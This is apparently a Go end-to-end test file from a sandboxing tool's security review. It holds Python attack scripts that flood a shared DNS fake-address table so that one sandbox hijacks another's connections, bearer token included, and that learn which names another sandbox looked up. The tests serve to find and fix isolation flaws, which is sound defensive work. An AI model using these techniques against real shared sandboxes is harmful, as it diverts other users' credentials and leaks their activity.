package e2e

import (
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// The hostile review of transparent capture (issue 11): attacks on srt's
// network namespace, its rules, the capture path and the sandbox's name
// server. Each runs as root and as the unprivileged runner, with a control
// that shows the same probe succeeding where the rule is lifted (or the
// detector seeing what it is meant to see). A test named ...Finding...
// asserts the behaviour a fix must give, and fails until then; the others
// are attacks that held.

// helperBuild is one helper program of these tests (a package under
// srt/internal/e2e), built into bin (world-readable, beside srt-init,
// srt-proxy and decider, where the library finds them) at its first use.
type helperBuild struct {
	once sync.Once
	err  error
}

var helperBuilds sync.Map // name → *helperBuild

func helperBin(t *testing.T, name string) string {
	t.Helper()
	out := filepath.Join(bin, name)
	v, _ := helperBuilds.LoadOrStore(name, &helperBuild{})
	b := v.(*helperBuild)
	b.once.Do(func() {
		build := exec.Command("go", "build", "-o", out, "github.com/srt-sandbox/srt/internal/e2e/"+name)
		build.Env = append(os.Environ(), "CGO_ENABLED=0")
		if msg, err := build.CombinedOutput(); err != nil {
			b.err = fmt.Errorf("building %s: %v\n%s", name, err, msg)
		}
	})
	if b.err != nil {
		t.Fatal(b.err)
	}
	return out
}

// libhost is srt/internal/e2e/libhost: several commands under one library
// Manager, as an agent host runs them.
func libhost(t *testing.T) string { return helperBin(t, "libhost") }

// libhost runs libhost as the runner, in the working directory.
func (w *workspace) libhost(args ...string) result {
	w.t.Helper()
	cmd := w.command(nil)
	cmd.Path, cmd.Args = libhost(w.t), append([]string{libhost(w.t)}, args...)
	return w.run(cmd)
}

// etcCommand prepares program (srt or libhost) as the runner with private
// copies of files under /etc (each bound over its path in a mount
// namespace of its own: /etc/hosts for names that lead to loopback
// servers, /etc/resolv.conf for the resolver srt-proxy asks).
func (w *workspace) etcCommand(files map[string]string, program string, args ...string) *exec.Cmd {
	w.t.Helper()
	if os.Geteuid() != 0 {
		w.t.Skip("needs root to give srt private files in /etc (the test would otherwise edit the machine's)")
	}
	script := ""
	var binds []string
	i := 0
	for dst, content := range files {
		src := w.write(fmt.Sprintf("etc-%d", i), content)
		script += fmt.Sprintf(`mount --bind "$%d" %s && `, len(binds), dst)
		binds = append(binds, src)
		i++
	}
	inner := []string{program}
	if w.r.uid != 0 {
		inner = []string{"setpriv", "--reuid", strconv.Itoa(w.r.uid), "--regid", strconv.Itoa(w.r.gid), "--clear-groups", "--", program}
	}
	// sh -c SCRIPT $0 $1 …: the files are the positional parameters, the
	// program and its arguments follow them (shift them away first).
	script += fmt.Sprintf(`shift %d; exec "$@"`, len(binds)-1)
	all := append([]string{"--mount", "--propagation", "private", "--", "sh", "-c", script}, binds...)
	all = append(all, append(inner, args...)...)
	cmd := exec.Command("unshare", all...)
	cmd.Dir, cmd.Env = w.dir, w.env()
	return cmd
}

// runEtc runs etcCommand's command, at most 90 s.
func (w *workspace) runEtc(files map[string]string, program string, args ...string) result {
	w.t.Helper()
	cmd := w.etcCommand(files, program, args...)
	var out, errb syncBuffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Start(); err != nil {
		w.t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(90 * time.Second):
		cmd.Process.Kill()
		<-done
		w.t.Fatalf("%s did not finish in 90 s:\n%s%s", program, out.String(), errb.String())
	}
	return result{stdout: out.String(), stderr: errb.String(), code: cmd.ProcessState.ExitCode()}
}

// dnsClient is Python for the sandbox: a client of the sandbox's name
// server (127.0.0.53) that builds its queries by hand, so that any name
// (any bytes in a label) can be asked, and many at once.
const dnsClient = `import socket, struct
def query(name, qid, qtype=1):
    labels = name if isinstance(name, list) else name.split(".")
    labels = [l if isinstance(l, bytes) else l.encode() for l in labels]
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack(">HH", qtype, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("127.0.0.53", 53))
def ask(name, qtype=1):
    """(rcode, last address or None) of one query"""
    for _ in range(5):
        s.send(query(name, 7, qtype))
        try:
            r = s.recv(4096)
        except socket.timeout:
            continue
        ancount = struct.unpack(">H", r[6:8])[0]
        addr = None
        if ancount and qtype == 1: addr = socket.inet_ntoa(r[-4:])
        if ancount and qtype == 28: addr = socket.inet_ntop(socket.AF_INET6, r[-16:])
        return r[3] & 15, addr
    raise SystemExit("no answer for %r" % (name,))
def lookup(name):
    return ask(name)[1]
def window(names):
    """the A answers of names, sent all at once (lost ones again)"""
    got = {}
    for _ in range(5):
        for i, n in enumerate(names):
            if i not in got: s.send(query(n, i))
        try:
            while len(got) < len(names):
                r = s.recv(512); got[struct.unpack(">H", r[:2])[0]] = socket.inet_ntoa(r[-4:])
        except socket.timeout:
            pass
        if len(got) == len(names): return [got[i] for i in range(len(names))]
    raise SystemExit("answers lost")
`

// hijack is Python for the attacking sandbox: it makes the fake address
// the victim holds for VICTIM_NAME stand for TARGET. It looks up 300
// marker names and then the victim's name (learning its address, and
// making it the newest entry), then floods the table with fresh names
// until it hands out the markers' addresses again: the address after the
// last marker's, in the order the table frees them, is the victim's. It
// needs no network of its own, only the name server every sandbox has.
const hijack = `import sys; sys.path.insert(0, ".")
from dnsclient import *
target, victim = sys.argv[1], sys.argv[2]
markers = ["m%d.marker.test" % i for i in range(300)]
addrs = [lookup(m) for m in markers]
x = lookup(victim)
n, hit = 0, False
while not hit and n < 100000:
    ans = window(["j%d.junk.test" % (n + i) for i in range(100)]); n += 100
    hit = any(a in addrs for a in ans)
while lookup("k%d.junk.test" % n) != addrs[-1] and n < 100000: n += 1
got = lookup(target)
print("attacker: after %d names %s stands at %s, the victim's address for %s was %s" % (n, target, got, victim, x))
`

// identityServer answers HTTP (and, with a certificate, HTTPS) with who
// it is and what it was sent: "served by TAG SCHEME PATH host=HOST
// auth=AUTHORIZATION".
func identityServer(t *testing.T, ln net.Listener, tag string, cert *tls.Certificate) {
	t.Helper()
	if cert != nil {
		ln = tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{*cert}})
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		scheme := "http"
		if r.TLS != nil {
			scheme = "https"
		}
		fmt.Fprintf(rw, "served by %s %s %s host=%s auth=%s\n", tag, scheme, r.URL.Path, r.Host, r.Header.Get("Authorization"))
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
}

// twinListeners listens on 127.0.0.1 and 127.0.0.2 at one port (two hosts
// a name can resolve to, told apart by what they answer).
func twinListeners(t *testing.T) (one, two net.Listener, port int) {
	t.Helper()
	for range 20 {
		a, err := net.Listen("tcp", "127.0.0.2:0")
		if err != nil {
			t.Fatal(err)
		}
		port = a.Addr().(*net.TCPAddr).Port
		b, err := net.Listen("tcp", "127.0.0.1:"+itoa(port))
		if err == nil {
			return b, a, port
		}
		a.Close()
	}
	t.Fatal("no port free on both 127.0.0.1 and 127.0.0.2")
	return nil, nil, 0
}

// TestEscapeCaptureFindingFakeAddressHijack: one sandbox makes the fake
// address another sandbox of the same srt-proxy holds for an allowed
// name stand for a name of its choosing, with DNS queries alone; the
// victim's next connection to that address is decided as, and goes to,
// the attacker's host. Under tlsTerminate (requireHostMatch off, the
// default) the victim's HTTPS client even gets a valid certificate for the
// name it asked for, so its request and credentials go to the attacker's
// host. The fake address table is one for every sandbox of an srt-proxy
// (docs/architecture.md, "Fake addresses"), and a freed address stands for
// another name after 16384 more names, which a sandbox looks up in about
// two seconds.
//
// Control: without the flood the victim reaches app.test's server, and
// the attacker's server is reachable (and told apart) by its own name.
func TestEscapeCaptureFindingFakeAddressHijack(t *testing.T) {
	ca := newTestCA(t, "hijack test CA", false)
	appPlain, evilPlain, pp := twinListeners(t)
	identityServer(t, appPlain, "app", nil)
	identityServer(t, evilPlain, "evil", nil)
	appTLS, evilTLS, pt := twinListeners(t)
	appCert, evilCert := ca.serverCert(t, "app.test"), ca.serverCert(t, "evil.cdn.test")
	identityServer(t, appTLS, "app", &appCert)
	identityServer(t, evilTLS, "evil", &evilCert)
	hosts := "127.0.0.1 localhost\n127.0.0.1 app.test\n127.0.0.2 evil.cdn.test\n"
	// The victim may reach app.test and, say, a CDN's subdomains (where
	// anyone can put a host: *.githubusercontent.com, *.s3.amazonaws.com);
	// the literals exempt the test's loopback servers from the address
	// check.
	allowed := []string{"app.test", "*.cdn.test", "127.0.0.1:" + itoa(pp), "127.0.0.2:" + itoa(pp), "127.0.0.1:" + itoa(pt), "127.0.0.2:" + itoa(pt)}
	victim := `x=$(python3 -c 'import socket; print(socket.getaddrinfo("app.test", 80, socket.AF_INET)[0][4][0])'); echo "$x" > x; ` +
		`for i in $(seq 1200); do [ -e go ] && break; sleep 0.05; done; ` +
		`curl -sS -m 10 --noproxy '*' -H 'Authorization: Bearer victim-secret' --resolve app.test:` + itoa(pp) + `:$x http://app.test:` + itoa(pp) + `/victim-plain; ` +
		`curl -sS -m 10 --noproxy '*' -H 'Authorization: Bearer victim-secret' --resolve app.test:` + itoa(pt) + `:$x https://app.test:` + itoa(pt) + `/victim-tls`
	wait := `for i in $(seq 1200); do [ -e x ] && break; sleep 0.05; done; `
	detector := `; curl -sS -m 10 --noproxy '*' http://evil.cdn.test:` + itoa(pp) + `/detector`
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/dnsclient.py", dnsClient)
		w.write("home/proj/hijack.py", hijack)
		s := w.settings(`{"network":{"allowedDomains":["` + strings.Join(allowed, `","`) + `"],"deniedDomains":[],` +
			`"tlsTerminate":{"extraCaCertPaths":["` + w.write("ca.pem", string(ca.certPEM)) + `"]}},` +
			`"filesystem":{"denyRead":["/etc/hosts"],"allowWrite":["."],"denyWrite":[]}}`)
		files := map[string]string{"/etc/hosts": hosts}
		run := func(attacker string) string {
			os.Remove(w.path("home/proj/x"))
			os.Remove(w.path("home/proj/go"))
			r := w.runEtc(files, libhost(t), s, "-parallel", "victim||"+victim, "attacker||"+wait+attacker+"; touch go"+detector)
			t.Logf("%s", r)
			return r.stdout + r.stderr
		}
		// Control: no flood.
		out := run("true")
		for _, f := range []string{"[victim] served by app http /victim-plain host=app.test:" + itoa(pp) + " auth=Bearer victim-secret",
			"[victim] served by app https /victim-tls host=app.test:" + itoa(pt) + " auth=Bearer victim-secret",
			"[attacker] served by evil http /detector"} {
			if !strings.Contains(out, f) {
				t.Fatalf("control: output lacks %q", f)
			}
		}
		// The attack.
		out = run("python3 hijack.py evil.cdn.test app.test")
		if !strings.Contains(out, "attacker: after") {
			t.Fatalf("the attacker's script did not run to its end")
		}
		if strings.Contains(out, "[victim] served by evil") {
			t.Errorf("FINDING: the victim's connections to the address it was given for app.test went to the host another sandbox chose (evil.cdn.test), credentials included")
		}
		if !strings.Contains(out, "[victim] served by app https /victim-tls") {
			t.Errorf("the victim did not reach app.test")
		}
	})
}

// TestEscapeCaptureFindingLookupSideChannel: one sandbox learns which
// names another sandbox of the same srt-proxy looked up, from the fake
// addresses the shared table gives it: a name already in the table keeps
// its older address, a new one gets the next. Sandbox B's answers must not
// depend on what sandbox A asked.
//
// Control: the measurement is stable: B's answers for names A did not ask
// are the same in both runs.
func TestEscapeCaptureFindingLookupSideChannel(t *testing.T) {
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/dnsclient.py", dnsClient)
		s := w.settings(`{"network":{"allowedDomains":[],"deniedDomains":[]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]}}`)
		probe := `python3 -c 'from dnsclient import *; print("B:", [lookup(n) for n in ("fresh1.test", "secret-a.test", "fresh2.test")])'`
		run := func(aLooksUp string) string {
			r := w.libhost(s, "a||python3 -c 'from dnsclient import *; lookup(\""+aLooksUp+"\")'", "b||"+probe)
			for _, l := range strings.Split(r.stdout, "\n") {
				if strings.HasPrefix(l, "[b] B:") {
					return l
				}
			}
			t.Fatalf("no answer from B:\n%s", r)
			return ""
		}
		looked, notLooked := run("secret-a.test"), run("other-a.test")
		t.Logf("A looked up secret-a.test: %s\nA looked up other-a.test: %s", looked, notLooked)
		if strings.Split(looked, ",")[0] != strings.Split(notLooked, ",")[0] {
			t.Fatalf("control: B's first answer differs between the runs")
		}
		if looked != notLooked {
			t.Errorf("FINDING: sandbox B can tell that sandbox A looked up secret-a.test (its answers differ)")
		}
	})
}
